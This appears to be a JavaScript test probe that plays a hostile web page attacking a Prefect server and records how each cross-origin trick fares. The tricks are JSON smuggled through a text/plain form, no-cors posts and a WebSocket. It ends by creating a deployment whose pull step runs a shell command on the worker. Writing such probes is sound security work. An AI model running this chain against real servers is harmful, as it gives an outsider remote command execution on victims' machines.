// What a hostile page tries on a Prefect server at `base`; gives what came of each way.
async (base) => {
  const name = "attack-" + Math.random().toString(16).slice(2);
  const told = {};
  const json = { "Content-Type": "application/json" };
  const send = async (way, path, init) => {
    try {
      const answer = await fetch(base + path, { method: "POST", ...init });
      told[way] = answer.type === "opaque" ? "sent" : answer.status;
      return answer;
    } catch (error) {
      told[way] = "refused";
      return null;
    }
  };
  const flow = await send("preflight", "/api/flows/", { headers: json, body: JSON.stringify({ name }) });
  await send("text", "/api/flows/", {
    mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ name: name + "-text" }),
  });
  await send("blob", "/api/flows/", { mode: "no-cors", body: new Blob([JSON.stringify({ name: name + "-blob" })]) });
  const frame = document.body.appendChild(document.createElement("iframe"));
  frame.name = name;
  const form = document.body.appendChild(document.createElement("form"));
  Object.assign(form, { action: base + "/api/flows/", method: "POST", enctype: "text/plain", target: name });
  const field = form.appendChild(document.createElement("input"));
  Object.assign(field, { name: '{"name": "' + name + '-form", "x": "', value: '"}' });
  const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 3000); });
  form.submit();
  await loaded;
  told.websocket = await new Promise((done) => {
    const socket = new WebSocket(base.replace("http", "ws") + "/api/events/in");
    socket.onopen = () => done("open");
    socket.onerror = socket.onclose = () => done("refused");
  });
  if (flow && flow.ok) {
    // The whole way: a deployment whose pull step runs a shell command on the worker.
    const { id } = await flow.json();
    const steps = [{ "prefect.deployments.steps.run_shell_script": { script: "touch SPOILS" } }];
    const deployment = await send("deployment", "/api/deployments/", {
      headers: json,
      body: JSON.stringify({ name, flow_id: id, work_pool_name: "local", pull_steps: steps, entrypoint: "x.x" }),
    });
    if (deployment && deployment.ok)
      await send("run", `/api/deployments/${(await deployment.json()).id}/create_flow_run`, { headers: json, body: "{}" });
  }
  return { ...told, name };
}
